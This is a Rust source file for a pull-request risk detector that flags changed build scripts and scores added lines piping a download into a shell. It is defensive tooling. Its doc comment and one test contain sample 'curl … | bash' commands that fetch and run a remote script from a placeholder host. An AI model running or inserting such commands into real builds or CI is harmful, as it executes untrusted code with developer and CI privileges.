//! `build_script_change`: the PR changes how the project is built.
//!
//! **What it detects.** Changed build scripts: Makefiles, Dockerfiles and compose files,
//! `build.rs`, CMake, Gradle, sbt, Bazel, `setup.py`, shell scripts under `scripts/`, Git
//! hooks under `.husky/`, and `package.json` `"scripts"` edits — plus, in build scripts and CI,
//! added lines that pipe a download into a shell (`curl … | sh`, high) or Docker base images
//! without a digest (low). A plain change weighs `PLAIN_BUILD_CHANGE_FACTOR` of the weight; a
//! worse finding raises it to its severity factor.
//!
//! **Why it matters.** Build scripts run with developer and CI privileges and are often
//! skimmed; a one-line change can fetch and execute anything. New install-time hooks are
//! reported separately by `install_script`.
//!
//! **Example.** "Build scripts changed: Dockerfile, scripts/release.sh; downloads and executes
//! a remote script: RUN curl -fsSL https://x.example/install.sh | bash".

use super::{DriverSpec, finding_paths, findings_of, fire, name_list, worst_factor};
use crate::engine::sections::supply_chain::BUILD_FINDINGS;
use crate::engine::context::{Context, Sections};
use crate::settings::weights::PLAIN_BUILD_CHANGE_FACTOR;
use crate::signal::Driver;

/// `build_script_change` as the catalogue lists it.
pub(crate) const SPEC: DriverSpec = DriverSpec {
    id: "build_script_change",
    label: "Build script change",
    weight: 0.30,
    source: "Not fitted in the calibration of 2026-12-06 (docs/calibration.md, \"What the fit cannot see\"): a plain build-file edit weighs 0 (PLAIN_BUILD_CHANGE_FACTOR; lift 0.71 on the corpus); download-and-execute findings still weigh; default kept: Reference product flag \"Modifies build scripts\"; pr-signal category dependency/CI/automation/Dockerfile; build scripts run with CI credentials (GitHub's \"Security hardening for GitHub Actions\"); PLAIN_BUILD_CHANGE_FACTOR for a plain change, else the worst finding (curl|sh high, OpenSSF Scorecard Pinned-Dependencies)",
    evaluate,
};

fn evaluate(context: &Context, sections: &Sections) -> Option<Driver> {
    let mut paths: Vec<String> = context
        .files
        .iter()
        .filter(|file| file.build_script)
        .map(|file| file.path.clone())
        .collect();
    let findings = findings_of(sections, BUILD_FINDINGS);
    for path in finding_paths(&findings) {
        if !paths.contains(&path) {
            paths.push(path);
        }
    }
    if paths.is_empty() {
        return None;
    }
    let mut detail = format!("Build scripts changed: {}", name_list(&paths));
    if let Some(first) = findings.first() {
        detail.push_str(&format!("; {}", first.detail));
        if findings.len() > 1 {
            detail.push_str(&format!(" (+{} more)", findings.len() - 1));
        }
    }
    let scale = worst_factor(&findings).map_or(PLAIN_BUILD_CHANGE_FACTOR, |factor| {
        factor.max(PLAIN_BUILD_CHANGE_FACTOR)
    });
    fire(context, &SPEC, scale, detail, paths)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::drivers::testing::{file, Case};
    use serde_json::json;

    #[test]
    fn a_plain_build_file_edit_is_hygiene_and_adds_nothing() {
        // PLAIN_BUILD_CHANGE_FACTOR is 0 (docs/calibration.md): only findings weigh.
        let case = Case::new(json!({"pull": {"number": 1}, "files": [
            file("Dockerfile", 1, 1), file("scripts/release.sh", 2, 0), file("src/lib.rs", 3, 0)
        ]}));
        assert!(case.fired(evaluate).is_none());
    }

    #[test]
    fn piping_a_download_into_a_shell_weighs_more_even_in_ci() {
        let case = Case::new(json!({"pull": {"number": 1}, "files": [
            {"filename": ".github/workflows/ci.yml", "status": "modified", "additions": 1, "deletions": 0,
             "patch": "@@ -1 +1,2 @@\n     steps:\n+      - run: curl -fsSL https://x.example/i.sh | bash"}
        ]}));
        let driver = case.fired(evaluate).unwrap();
        assert_eq!(
            driver.detail,
            "Build scripts changed: .github/workflows/ci.yml; downloads and executes a remote script: - run: curl -fsSL https://x.example/i.sh | bash"
        );
        assert_eq!(driver.weight, 0.24);
    }

    #[test]
    fn source_files_do_not_fire() {
        let case =
            Case::new(json!({"pull": {"number": 1}, "files": [file("src/build_info.rs", 1, 1)]}));
        assert!(case.fired(evaluate).is_none());
    }
}
